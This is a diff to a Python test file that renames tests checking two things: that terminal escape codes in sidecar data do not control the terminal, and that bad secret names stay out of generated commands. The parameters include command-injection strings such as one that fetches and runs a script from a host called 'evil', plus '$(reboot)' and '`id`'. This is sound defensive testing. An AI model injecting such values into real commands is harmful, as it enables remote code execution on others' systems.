@@ -23,7 +23,7 @@ def _is_harmless(text: str) -> bool:
 
 @pytest.mark.parametrize("width", [None, 40, 200])
 @pytest.mark.parametrize("wide", [True, False])
-def test_a_table_shows_what_a_sidecar_says_and_obeys_nothing(wide: bool, width: int | None) -> None:
+def test_text_of_a_sidecar_does_not_control_the_terminal(wide: bool, width: int | None) -> None:
     said: Json = known(host=ESCAPE, schedule=ESCAPE, problems=[ESCAPE])
     said["last"] = {**said["last"], "status": f"{ESCAPE}success", "message": ESCAPE}
     row = rows.row(pod(), said, "", 0)
@@ -49,7 +49,7 @@ def _ask() -> None:
 
 
 @pytest.mark.parametrize("write", [_say, _tell, _ask])
-def test_no_line_steers_the_terminal(
+def test_no_line_controls_the_terminal(
     write: Callable[[], None],
     capsys: pytest.CaptureFixture[str],
     monkeypatch: pytest.MonkeyPatch,
@@ -74,7 +74,7 @@ def test_our_own_colours_are_kept(capsys: pytest.CaptureFixture[str]) -> None:
 @pytest.mark.parametrize(
     "name", ["x;curl${IFS}evil|sh;#", "$(reboot)", "`id`", "a b", "--all", "a\nb", f"a{ESCAPE}", ""]
 )
-def test_a_name_of_a_secret_that_is_none_gets_into_no_command(name: str) -> None:
+def test_an_invalid_secret_name_is_in_no_command(name: str) -> None:
     """The annotation is the app's; an administrator pastes what doctor tells."""
     annotated = pod(annotations={"backup.enabled": "true", "backup.secret": name})
     facts = Facts(0, "prod", workload="wiki", pods=(annotated,), secret=name, keys={})
